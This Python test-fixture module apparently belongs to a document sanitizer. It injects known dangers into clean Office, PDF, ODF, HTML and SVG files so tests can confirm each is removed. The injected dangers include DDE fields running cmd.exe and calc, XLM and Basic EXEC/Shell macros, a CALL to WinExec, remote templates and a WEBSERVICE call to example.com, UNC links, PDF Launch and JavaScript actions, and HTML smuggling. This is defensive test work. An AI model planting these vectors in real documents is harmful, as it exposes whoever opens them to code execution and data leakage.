"""Dangers put into clean files, one at a time: gone afterwards, and nothing else differs from the clean file's output."""

import base64
import io
import os
import pathlib
import re
import zipfile

import samples
from canaries import chunk, gif_block, html_mail, pdf_with, repack, tiff_with, unreferenced, webp_chunk

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
CFB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + b"\x3e\0\3\0\xfe\xff\x09\0" + bytes(1500)
LIST = []


def danger(kind, name, equal=True, ending=None):
    """Registers an injector: from the clean file's bytes to those with the danger."""

    def register(function):
        LIST.append((kind, name, equal, ending or kind, function))
        return function

    return register


# ── OOXML ────────────────────────────────────────────────────────────────────────────────────────────────────

MAIN = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}


def sub(pattern, new, count=1):
    def change(xml):
        done, times = re.subn(pattern if isinstance(pattern, bytes) else pattern.encode(), lambda _: new.encode() if isinstance(new, str) else new, xml, count=count, flags=re.S)
        assert times, f"nowhere: {pattern}"
        return done

    return change


def rels_of(part):
    folder, _, name = part.rpartition("/")
    return f"{folder}/_rels/{name}.rels" if folder else f"_rels/{name}.rels"


def edit(data, source=None, kind=None, target=None, mode=None, parts=None, types=(), change=None, number="rIdBad"):
    """A package with a relationship, parts, content types and changes of text."""
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    changes, added = dict(change or {}), dict(parts or {})
    if kind:
        kind = kind if "://" in kind else f"{REL}/{kind}"
        line = f'<Relationship Id="{number}" Type="{kind}" Target="{target}"' + (f' TargetMode="{mode}"' if mode else "") + "/>"
        rels = rels_of(source)
        if rels in names:
            changes[rels] = sub("</Relationships>", line + "</Relationships>")
        else:
            added[rels] = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{line}</Relationships>'
    if types:
        extra = "".join(f'<Override PartName="/{name}" ContentType="{what}"/>' if "/" in name else f'<Default Extension="{name}" ContentType="{what}"/>' for name, what in types)
        earlier = changes.get("[Content_Types].xml", lambda xml: xml)
        changes["[Content_Types].xml"] = lambda xml: sub("</Types>", extra + "</Types>")(earlier(xml))
    return repack(data, change=changes, add=added)


def macro_variant(kind):
    plain = {"docx": "wordprocessingml.document", "xlsx": "spreadsheetml.sheet", "pptx": "presentationml.presentation"}[kind]
    macro = {"docx": "ms-word.document", "xlsx": "ms-excel.sheet", "pptx": "ms-powerpoint.presentation"}[kind]
    return sub(f"application/vnd.openxmlformats-officedocument.{plain}.main\\+xml", f"application/vnd.{macro}.macroEnabled.main+xml")


for kind_, folder_ in (("docx", "word"), ("xlsx", "xl"), ("pptx", "ppt")):

    @danger(kind_, "vba", ending=kind_[:-1] + "m")
    def _(data, kind=kind_, folder=folder_):
        return edit(data, MAIN[kind], "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", parts={f"{folder}/vbaProject.bin": CFB}, types=[(f"{folder}/vbaProject.bin", "application/vnd.ms-office.vbaProject")], change={"[Content_Types].xml": macro_variant(kind)})

    @danger(kind_, "custom-ui")
    def _(data):
        ui = '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="Run"><ribbon/></customUI>'
        return edit(data, "", "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", "customUI/customUI.xml", parts={"customUI/customUI.xml": ui})

    @danger(kind_, "task-pane")
    def _(data):
        pane = '<wetp:taskpanes xmlns:wetp="http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11"/>'
        return edit(data, "", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "xl/webextensions/taskpanes.xml", parts={"xl/webextensions/taskpanes.xml": pane}, types=[("xl/webextensions/taskpanes.xml", "application/vnd.ms-office.webextensiontaskpanes+xml")])

    @danger(kind_, "custom-xml-mashup")
    def _(data, kind=kind_):
        return edit(data, MAIN[kind], "customXml", "../customXml/item7.xml", parts={"customXml/item7.xml": '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'})

    @danger(kind_, "signature")
    def _(data):
        return edit(data, "", "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin", "_xmlsignatures/origin.sigs", parts={"_xmlsignatures/origin.sigs": ""}, types=[("sigs", "application/vnd.openxmlformats-package.digital-signature-origin")])

    @danger(kind_, "unreferenced-part")
    def _(data, folder=folder_):
        return edit(data, parts={f"{folder}/embeddings/payload.bin": b"MZ" + bytes(200)}, types=[("bin", "application/octet-stream")])


def doc(new, before="</w:body>|<w:sectPr"):
    return {"word/document.xml": lambda xml: re.sub(before.encode(), lambda m: new.encode() + m.group(), xml, count=1)}


def run(text):
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


def field(*pieces):
    inner = "".join(run(piece) for piece in pieces)
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{inner}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'


def into_paragraph(new):
    """Inside the first paragraph, after its text."""
    return {"word/document.xml": lambda xml: xml.replace(b"</w:p>", new.encode() + b"</w:p>", 1)}


@danger("docx", "dde-split")
def _(data):
    return edit(data, change=into_paragraph(field("DDE", "AUTO c:\\\\windows\\\\cmd.exe ", '"/k calc"')))


@danger("docx", "dde-simple")
def _(data):
    return edit(data, change=into_paragraph('<w:fldSimple w:instr=" DDE excel c:\\\\x.xls A1 "/>'))


for code in ('INCLUDEPICTURE "http://example.com/a.png" \\d', 'INCLUDETEXT "\\\\\\\\example.com\\\\a.docx"', 'LINK Excel.Sheet "http://example.com/a.xlsx"', "MACROBUTTON Run ", 'DATABASE \\d "http://example.com/x.mdb"', 'IMPORT "http://example.com/a.gif"'):

    @danger("docx", "field-" + code.split()[0].lower())
    def _(data, code=code):
        return edit(data, change=into_paragraph(field(code.replace('"', "&quot;"))))


@danger("docx", "remote-template")
def _(data):
    return edit(data, "word/settings.xml", "attachedTemplate", "http://example.com/evil.dotm", "External", change={"word/settings.xml": lambda xml: re.sub(rb"(<w:settings[^>]*>)", rb'\1<w:attachedTemplate xmlns:r="' + REL.encode() + rb'" r:id="rIdBad"/>', xml, count=1)})


@danger("docx", "alt-chunk")
def _(data):
    return edit(data, "word/document.xml", "aFChunk", "afchunk.mht", parts={"word/afchunk.mht": "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>x</script>"}, types=[("mht", "message/rfc822")], change=doc(f'<w:altChunk xmlns:r="{REL}" r:id="rIdBad"/>', "<w:sectPr"))


@danger("docx", "ole-package")
def _(data):
    shape = f'<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:r="{REL}" Type="Embed" ProgID="Package" DrawAspect="Icon" ObjectID="_1" r:id="rIdBad"/></w:object></w:r>'
    return edit(data, "word/document.xml", "oleObject", "embeddings/oleObject1.bin", parts={"word/embeddings/oleObject1.bin": CFB}, types=[("bin", "application/vnd.openxmlformats-officedocument.oleObject")], change=into_paragraph(shape))


@danger("docx", "ole-link")
def _(data):
    shape = f'<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:r="{REL}" Type="Link" ProgID="Word.Document.8" ObjectID="_1" UpdateMode="Always" r:id="rIdBad"/></w:object></w:r>'
    return edit(data, "word/document.xml", "oleObject", "file:///\\\\example.com\\a.doc", "External", change=into_paragraph(shape))


@danger("docx", "active-x")
def _(data):
    control = f'<w:r><w:object><w:control xmlns:r="{REL}" r:id="rIdBad" w:name="x"/></w:object></w:r>'
    ax = f'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="{REL}" ax:classid="{{D27CDB6E-AE6D-11CF-96B8-444553540000}}" ax:persistence="persistPropertyBag"/>'
    return edit(data, "word/document.xml", "control", "activeX/activeX1.xml", parts={"word/activeX/activeX1.xml": ax}, types=[("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")], change=into_paragraph(control))


def linked(target):
    def inject(data):
        return edit(data, "word/document.xml", "hyperlink", target, "External", change={"word/document.xml": lambda xml: re.sub(rb"(<w:p>(?:<w:pPr>.*?</w:pPr>)?)(<w:r>.*?</w:r>)(</w:p>)", rb'\1<w:hyperlink xmlns:r="' + REL.encode() + rb'" r:id="rIdBad">\2</w:hyperlink>\3', xml, count=1, flags=re.S)})

    return inject


danger("docx", "hyperlink")(linked("https://example.com/"))
danger("docx", "hyperlink-unc")(linked("file:///\\\\example.com\\share\\a.exe"))
danger("docx", "hyperlink-search-ms")(linked("search-ms:query=a&amp;crumb=location:\\\\example.com"))


@danger("docx", "linked-picture")
def _(data):
    return edit(data, "word/document.xml", "image", "http://example.com/track.png", "External", change={"word/document.xml": sub('<a:blip ', '<a:blip r:link="rIdBad" ')})


@danger("docx", "sub-document")
def _(data):
    return edit(data, "word/document.xml", "subDocument", "file:///c:/a.docx", "External", change=doc(f'<w:p><w:subDoc xmlns:r="{REL}" r:id="rIdBad"/></w:p>', "<w:sectPr"), number="rIdBad") if False else edit(data, "word/document.xml", "subDocument", "file:///c:/a.docx", "External", change=into_paragraph(f'<w:subDoc xmlns:r="{REL}" r:id="rIdBad"/>'))


@danger("docx", "mail-merge")
def _(data):
    merge = '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/><w:connectString w:val="Provider=x"/><w:query w:val="SELECT 1"/></w:mailMerge>'
    return edit(data, change={"word/settings.xml": lambda xml: re.sub(rb"(<w:settings[^>]*>)", rb"\1" + merge.encode(), xml, count=1)})


@danger("docx", "key-map")
def _(data):
    keys = '<wne:tcg xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"><wne:keymaps><wne:keymap wne:kcmPrimary="0431"><wne:macro wne:macroName="X.RUN"/></wne:keymap></wne:keymaps></wne:tcg>'
    return edit(data, "word/document.xml", "http://schemas.microsoft.com/office/2006/relationships/keyMapCustomizations", "customizations.xml", parts={"word/customizations.xml": keys}, types=[("word/customizations.xml", "application/vnd.ms-word.keyMapCustomizations+xml")])


@danger("docx", "embedded-font")
def _(data):
    return edit(data, "word/fontTable.xml", "font", "fonts/font1.odttf", parts={"word/fonts/font1.odttf": bytes(64)}, types=[("odttf", "application/vnd.openxmlformats-officedocument.obfuscatedFont")], change={"word/fontTable.xml": sub("</w:font>", f'<w:embedRegular xmlns:r="{REL}" r:id="rIdBad" w:fontKey="{{00000000-0000-0000-0000-000000000000}}"/></w:font>')})


SHEET = "xl/worksheets/sheet1.xml"


def formula(text):
    return lambda data: edit(data, change={SHEET: sub(r'(<c r="B2"[^>]*>)<v>2</v>', f'<c r="B2"><f>{text}</f><v>2</v>')})


danger("xlsx", "formula-dde")(formula("cmd|&apos;/c calc&apos;!A1"))
danger("xlsx", "formula-webservice")(formula("_xlfn.WEBSERVICE(&quot;http://example.com/&quot;&amp;A1)"))
danger("xlsx", "formula-hyperlink")(formula("HYPERLINK(&quot;\\\\example.com\\a&quot;,2)"))
danger("xlsx", "formula-rtd")(formula("RTD(&quot;x.y&quot;,,&quot;a&quot;)"))
danger("xlsx", "formula-call")(formula("CALL(&quot;Kernel32&quot;,&quot;WinExec&quot;,&quot;JCJ&quot;,&quot;calc&quot;,0)"))


def external(inner, kind="externalLinkPath", target="file:///\\\\example.com\\a.xlsx", mode="External"):
    def inject(data):
        link = f'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{REL}">{inner}</externalLink>'
        parts = {"xl/externalLinks/externalLink1.xml": link}
        if target:
            parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{REL}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
        return edit(data, "xl/workbook.xml", "externalLink", "externalLinks/externalLink1.xml", parts=parts, types=[("xl/externalLinks/externalLink1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")], change={"xl/workbook.xml": sub("</sheets>", f'</sheets><externalReferences xmlns:r="{REL}"><externalReference r:id="rIdBad"/></externalReferences>')})

    return inject


danger("xlsx", "dde-link")(external('<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A1"/></ddeItems></ddeLink>', target=None))
danger("xlsx", "external-book")(external('<externalBook r:id="rId1"><sheetNames><sheetName val="a"/></sheetNames></externalBook>'))


@danger("xlsx", "xlm-sheet", ending="xlsm")
def _(data):
    sheet = '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc")</f><v>0</v></c></row></sheetData></xm:macrosheet>'
    change = {"[Content_Types].xml": macro_variant("xlsx"), "xl/workbook.xml": lambda xml: re.sub(rb"</sheets>", b'<sheet xmlns:r="' + REL.encode() + b'" name="Macro1" sheetId="99" state="veryHidden" r:id="rIdBad"/></sheets>', xml).replace(b"<definedNames>", b'<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName>')}
    return edit(data, "xl/workbook.xml", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml", parts={"xl/macrosheets/sheet1.xml": sheet}, types=[("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml")], change=change)


@danger("xlsx", "xlm-name")
def _(data):
    return edit(data, change={"xl/workbook.xml": sub("<definedNames>", '<definedNames><definedName name="run" xlm="1" function="1" hidden="1">EXEC("calc")</definedName>')})


@danger("xlsx", "connection")
def _(data):
    text = '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="a" type="1" refreshedVersion="4" refreshOnLoad="1"><dbPr connection="DSN=x" command="SELECT 1"/></connection></connections>'
    return edit(data, "xl/workbook.xml", "connections", "connections.xml", parts={"xl/connections.xml": text}, types=[("xl/connections.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml")])


@danger("xlsx", "query-table")
def _(data):
    text = '<queryTable xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" name="a" connectionId="1" refreshOnLoad="1"/>'
    return edit(data, SHEET, "queryTable", "../queryTables/queryTable1.xml", parts={"xl/queryTables/queryTable1.xml": text}, types=[("xl/queryTables/queryTable1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.queryTable+xml")])


def cell_link(target):
    return lambda data: edit(data, SHEET, "hyperlink", target, "External", change={SHEET: sub(r"(?=<pageMargins)", f'<hyperlinks><hyperlink xmlns:r="{REL}" ref="A2" r:id="rIdBad"/></hyperlinks>')})


danger("xlsx", "hyperlink")(cell_link("https://example.com/"))
danger("xlsx", "hyperlink-unc")(cell_link("\\\\example.com\\a"))


@danger("xlsx", "ole-object")
def _(data):
    return edit(data, SHEET, "oleObject", "../embeddings/oleObject1.bin", parts={"xl/embeddings/oleObject1.bin": CFB}, types=[("bin", "application/vnd.openxmlformats-officedocument.oleObject")], change={SHEET: sub("</worksheet>", f'<oleObjects><oleObject xmlns:r="{REL}" progId="Package" shapeId="1025" r:id="rIdBad"/></oleObjects></worksheet>')})


@danger("xlsx", "form-control")
def _(data):
    text = '<formControlPr xmlns="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" objectType="Button" fmlaMacro="Run"/>'
    return edit(data, SHEET, "ctrlProp", "../ctrlProps/ctrlProp1.xml", parts={"xl/ctrlProps/ctrlProp1.xml": text}, types=[("xl/ctrlProps/ctrlProp1.xml", "application/vnd.ms-excel.controlproperties+xml")])


@danger("xlsx", "shape-macro")
def _(data):
    return edit(data, change={"xl/drawings/drawing1.xml": sub(r"<(xdr:)?pic>", "<xdr:pic macro=\"[0]!Run\">") if b"<xdr:pic>" in zipfile.ZipFile(io.BytesIO(data)).read("xl/drawings/drawing1.xml") else sub(r"<pic>", '<pic macro="[0]!Run">')})


@danger("xlsx", "printer-settings")
def _(data):
    return edit(data, SHEET, "printerSettings", "../printerSettings/printerSettings1.bin", parts={"xl/printerSettings/printerSettings1.bin": b"\\\0\\\0p\0" + bytes(60)}, types=[("bin", "application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings")])


SLIDE = "ppt/slides/slide1.xml"


def click(attributes, kind="hyperlink", target="https://example.com/", mode="External"):
    def inject(data):
        return edit(data, SLIDE, kind, target, mode, change={SLIDE: sub(r'(<p:cNvPr id="2" name="[^"]*")/>', f'<p:cNvPr id="2" name="Title 1"><a:hlinkClick xmlns:r="{REL}" r:id="rIdBad"{attributes}/></p:cNvPr>')})

    return inject


danger("pptx", "hyperlink")(click(""))
danger("pptx", "hyperlink-file")(click("", target="file:///\\\\example.com\\a.exe"))
danger("pptx", "action-program")(click(' action="ppaction://program"', target="file:///c:/windows/system32/calc.exe"))
danger("pptx", "action-macro")(lambda data: edit(data, change={SLIDE: sub(r'(<p:cNvPr id="2" name="[^"]*")/>', f'<p:cNvPr id="2" name="Title 1"><a:hlinkClick xmlns:r="{REL}" r:id="" action="ppaction://macro?name=Run"/></p:cNvPr>')}))
danger("pptx", "action-presentation")(click(' action="ppaction://hlinkpres?slideindex=1"', target="file:///\\\\example.com\\a.pptx"))


@danger("pptx", "transition-sound")
def _(data):
    sound = f'<p:transition><p:sndAc><p:stSnd><p:snd xmlns:r="{REL}" r:embed="rIdBad" name="a.wav"/></p:stSnd></p:sndAc></p:transition>'
    return edit(data, SLIDE, "audio", "../media/a.wav", parts={"ppt/media/a.wav": b"RIFF\x24\0\0\0WAVEfmt " + bytes(28)}, types=[("wav", "audio/x-wav")], change={SLIDE: sub(r"(?=</p:sld>)", sound)})


@danger("pptx", "command")
def _(data):
    timing = '<p:timing><p:tnLst><p:par><p:cTn id="1" dur="indefinite" nodeType="tmRoot"><p:childTnLst><p:cmd type="verb" cmd="0"><p:cBhvr><p:cTn id="2" dur="1"/><p:tgtEl><p:spTgt spid="2"/></p:tgtEl></p:cBhvr></p:cmd></p:childTnLst></p:cTn></p:par></p:tnLst></p:timing>'
    return edit(data, change={SLIDE: sub(r"(?=</p:sld>)", timing)})


@danger("pptx", "linked-picture")
def _(data):
    return edit(data, "ppt/slides/slide2.xml", "image", "http://example.com/a.png", "External", change={"ppt/slides/slide2.xml": sub("<a:blip ", f'<a:blip xmlns:r="{REL}" r:link="rIdBad" ')})


@danger("pptx", "active-x")
def _(data):
    return edit(data, SLIDE, "control", "../activeX/activeX1.xml", parts={"ppt/activeX/activeX1.xml": f'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="{REL}" ax:classid="{{0}}" ax:persistence="persistPropertyBag"/>'}, types=[("ppt/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")], change={SLIDE: sub(r"(?=</p:cSld>)", f'<p:controls><p:control xmlns:r="{REL}" spid="1" name="x" r:id="rIdBad" imgW="1" imgH="1"/></p:controls>')})


@danger("pptx", "embedded-font")
def _(data):
    return edit(data, "ppt/presentation.xml", "font", "fonts/font1.fntdata", parts={"ppt/fonts/font1.fntdata": bytes(64)}, types=[("fntdata", "application/x-fontdata")])


# ── PDF ──────────────────────────────────────────────────────────────────────────────────────────────────────


def pdf(name, change):
    danger("pdf", name)(lambda _: pdf_with(change))


def pdf_dangers():
    import pikepdf
    from pikepdf import Array, Dictionary, Name, String

    script = lambda: Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))  # noqa: E731
    files = lambda d, name="a.exe": pikepdf.AttachedFileSpec(d, b"MZ" + bytes(100), filename=name)  # noqa: E731

    def annotate(page=0, **keys):
        def change(d):
            extra = {key: value(d) if callable(value) else value for key, value in keys.items()}
            annotation = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 1, 1]), F=2, **extra)
            target = d.pages[page].obj
            target.Annots = Array([*target.get("/Annots", []), d.make_indirect(annotation)])

        return change

    def act(**keys):
        return annotate(Subtype=Name.Link, A=lambda d: Dictionary(**{key: value(d) if callable(value) else value for key, value in keys.items()}))

    pdf("open-script", lambda d: d.Root.__setitem__("/OpenAction", script()))
    pdf("named-script", lambda d: d.Root.__setitem__("/Names", Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))))
    pdf("catalog-aa", lambda d: d.Root.__setitem__("/AA", Dictionary(WC=script())))
    pdf("page-aa", lambda d: d.pages[0].obj.__setitem__("/AA", Dictionary(O=script())))
    pdf("field-aa", lambda d: d.Root.AcroForm.Fields[0].__setitem__("/AA", Dictionary(K=script())))
    pdf("xfa", lambda d: d.Root.AcroForm.__setitem__("/XFA", d.make_stream(b"<xdp/>")))
    pdf("attachment", lambda d: d.attachments.__setitem__("a.exe", files(d)))
    pdf("associated-file", lambda d: d.Root.__setitem__("/AF", Array([files(d).obj])))
    pdf("outline-script", lambda d: d.Root.Outlines.First.__setitem__("/A", script()))
    pdf("open-launch", lambda d: d.Root.__setitem__("/OpenAction", Dictionary(S=Name.Launch, F=String("cmd.exe"))))
    pdf("chained", lambda d: d.Root.__setitem__("/OpenAction", Dictionary(S=Name.GoTo, D=Array([d.pages[0].obj, Name.Fit]), Next=script())))
    pdf("piece-info", lambda d: d.pages[0].obj.__setitem__("/PieceInfo", Dictionary(X=Dictionary(LastModified=String("D:2025"), Private=String("x")))))
    pdf("requirements", lambda d: d.Root.__setitem__("/Requirements", Array([Dictionary(S=Name.EnableJavaScripts)])))
    pdf("signature-permissions", lambda d: d.Root.__setitem__("/Perms", Dictionary(DocMDP=d.make_indirect(Dictionary(Type=Name.Sig, Filter=Name("/Adobe.PPKLite"))))))
    pdf("security-store", lambda d: d.Root.__setitem__("/DSS", Dictionary(Certs=Array([d.make_stream(b"x")]))))
    pdf("link-launch", act(S=Name.Launch, F=String("calc.exe")))
    pdf("link-uri", act(S=Name.URI, URI=String("https://example.com/")))
    pdf("link-submit", act(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://example.com/"))))
    pdf("link-import", act(S=Name.ImportData, F=String("a.fdf")))
    pdf("link-remote", act(S=Name.GoToR, F=String("\\\\example.com\\a.pdf"), D=Array([0, Name.Fit])))
    pdf("link-embedded", act(S=Name.GoToE, D=Array([0, Name.Fit]), T=Dictionary(R=Name.C, N=String("a"))))
    pdf("link-print", act(S=Name.Named, N=Name.Print))
    pdf("link-hide", act(S=Name.Hide, T=String("name")))
    pdf("link-reset", act(S=Name.ResetForm))
    pdf("link-script-escaped", act(S=Name.JavaScript, JS=lambda d: d.make_stream(b"app.alert(1)")))
    pdf("file-annotation", annotate(Subtype=Name.FileAttachment, FS=lambda d: files(d).obj))
    pdf("rich-media", annotate(Subtype=Name.RichMedia, RichMediaContent=Dictionary(Assets=Dictionary())))
    pdf("screen", annotate(Subtype=Name.Screen, A=Dictionary(S=Name.Rendition, OP=0)))
    pdf("movie", annotate(Subtype=Name.Movie, Movie=Dictionary(F=String("a.avi")), A=True))
    pdf("sound", annotate(Subtype=Name.Sound, Sound=lambda d: d.make_stream(b"\0" * 8, R=8000)))
    pdf("three-d", annotate(Subtype=Name("/3D"), **{"3DD": Dictionary(Type=Name("/3D"))}))
    pdf("widget-script", annotate(Subtype=Name.Widget, A=script()))


pdf_dangers()


@danger("pdf", "second-revision")
def _(data):
    return unreferenced(data, b"payload")


@danger("pdf", "object-streams")
def _(data):
    import pikepdf

    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as document:
        document.Root.OpenAction = document.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))
        document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


@danger("pdf", "owner-encrypted")
def _(data):
    import pikepdf

    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as document:
        document.save(out, encryption=pikepdf.Encryption(owner="x", user="", R=6))
    return out.getvalue()


# ── ODF ──────────────────────────────────────────────────────────────────────────────────────────────────────

BODY = {"odt": "office:text", "ods": "office:spreadsheet", "odp": "draw:page"}
SPACES = " ".join(
    f'xmlns:{short}="{long}"'
    for short, long in {
        "script": "urn:oasis:names:tc:opendocument:xmlns:script:1.0",
        "xlink": "http://www.w3.org/1999/xlink",
        "draw": "urn:oasis:names:tc:opendocument:xmlns:drawing:1.0",
        "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
        "form": "urn:oasis:names:tc:opendocument:xmlns:form:1.0",
        "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
        "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
        "svg": "urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0",
    }.items()
)


def odf_part(name, kind, new, before=None, part="content.xml"):
    def inject(data):
        text = re.sub(r"^<([\w:-]+)", rf"<\1 {SPACES}", new)
        return repack(data, change={part: sub(before or f"</{BODY[kind]}>", text + (before or f"</{BODY[kind]}>").replace("\\", ""))})

    danger(kind, name)(inject)


for kind_ in ("odt", "ods", "odp"):
    scripts = '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.a.Main?language=Basic&amp;location=document"/></office:event-listeners></office:scripts>'
    odf_part("open-event", kind_, scripts, "<office:automatic-styles")

    def listed(data, name, content, kind="text/xml"):
        return repack(data, change={"META-INF/manifest.xml": sub("</(?:manifest:)?manifest>", f'<manifest:file-entry xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:full-path="{name}" manifest:media-type="{kind}"/></manifest:manifest>')}, add={name: content})

    danger(kind_, "basic")(lambda data: listed(data, "Basic/Standard/a.xml", '<script:module xmlns:script="http://openoffice.org/2000/script" script:name="a" script:language="StarBasic">Sub Main\nShell("calc")\nEnd Sub</script:module>'))
    danger(kind_, "scripts-python")(lambda data: listed(data, "Scripts/python/a.py", "import os", "application/octet-stream"))
    danger(kind_, "rdf")(lambda data: listed(data, "manifest.rdf", '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>', "application/rdf+xml"))
    danger(kind_, "configuration")(lambda data: listed(data, "Configurations2/menubar/a.xml", "<a/>"))
    danger(kind_, "signature")(lambda data: repack(data, add={"META-INF/documentsignatures.xml": "<a/>"}))

frame = '<draw:frame svg:width="1mm" svg:height="1mm" text:anchor-type="page">{}</draw:frame>'
odf_part("dde-section", "odt", '<text:section text:name="s"><office:dde-source office:dde-application="cmd" office:dde-topic="/c" office:dde-item="calc"/></text:section>')
odf_part("remote-section", "odt", '<text:section text:name="s"><text:section-source xlink:href="http://example.com/a.odt"/></text:section>')
odf_part("applet", "odt", frame.format('<draw:applet draw:code="a.class" xlink:href="http://example.com/"/>'))
odf_part("plugin", "odt", frame.format('<draw:plugin draw:mime-type="a/b" xlink:href="http://example.com/"/>'))
odf_part("floating-frame", "odt", frame.format('<draw:floating-frame xlink:href="http://example.com/"/>'))
odf_part("macro-field", "odt", '<text:p><text:execute-macro text:name="a"><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:click" xlink:href="vnd.sun.star.script:a.b.c"/></office:event-listeners></text:execute-macro></text:p>')
odf_part("sheet-source", "ods", '<table:table table:name="extern" table:display="false"><table:table-source xlink:href="file:///c:/a.ods"/><table:table-column/><table:table-row><table:table-cell/></table:table-row></table:table>')
odf_part("dde-links", "ods", '<table:dde-links><table:dde-link><office:dde-source office:dde-application="soffice" office:dde-topic="c:/a.ods" office:dde-item="A1"/><table:table><table:table-column/><table:table-row><table:table-cell/></table:table-row></table:table></table:dde-link></table:dde-links>')


@danger("ods", "formula-webservice")
def _(data):
    return repack(data, change={"content.xml": sub("<table:table-cell ", '<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://example.com&quot;)" ')})


@danger("odt", "link")
def _(data):
    return repack(data, change={"content.xml": lambda xml: re.sub(rb"(<text:span[^>]*>)(.*?)(</text:span>)", rb'\1<text:a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:type="simple" xlink:href="https://example.com/">\2</text:a>\3', xml, count=1)})


@danger("odt", "macro-link")
def _(data):
    return repack(data, change={"content.xml": lambda xml: re.sub(rb"(<text:span[^>]*>)(.*?)(</text:span>)", rb'\1<text:a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:type="simple" xlink:href="macro:///Standard.a.Main">\2</text:a>\3', xml, count=1)})


# ── web, text, calendar, mail, archives, pictures ────────────────────────────────────────────────────────────


def web(kind, name, old, new, equal=True):
    base = {"html": samples.HTML, "svg": samples.SVG, "ics": samples.ICS, "vcf": samples.VCF}[kind]
    assert old in base, name
    danger(kind, name, equal)(lambda _: base.replace(old, new, 1).encode())


web("html", "script", "</body>", "<script>alert(1)</script></body>")
web("html", "handler", "<body>", '<body onload="alert(1)">')
web("html", "iframe", "</body>", '<iframe src="https://example.com/"></iframe></body>')
web("html", "object", "</body>", '<object data="a.swf"></object></body>')
web("html", "embed", "</body>", '<embed src="a.swf"></body>')
web("html", "form", "</body>", '<form action="https://example.com/"><input name="a" type="hidden"></form></body>')
web("html", "refresh", "<title>", '<meta http-equiv="refresh" content="0;url=https://example.com/"><title>')
web("html", "base", "<title>", '<base href="https://example.com/"><title>')
web("html", "stylesheet", "<title>", '<link rel="stylesheet" href="https://example.com/a.css"><title>')
web("html", "style-import", "<title>", '<style>@import "https://example.com/a.css";</style><title>')
web("html", "style-url", "<p>", '<p style="background:url(https://example.com/a.png)">')
web("html", "svg-script", "</body>", "<svg><script>alert(1)</script></svg></body>")
web("html", "smuggling", "</body>", '<script>var b=new Blob([atob("TVo=")]);</script></body>')
web("svg", "script", "</svg>", "<script>alert(1)</script></svg>")
web("svg", "handler", "<rect ", '<rect onclick="alert(1)" ')
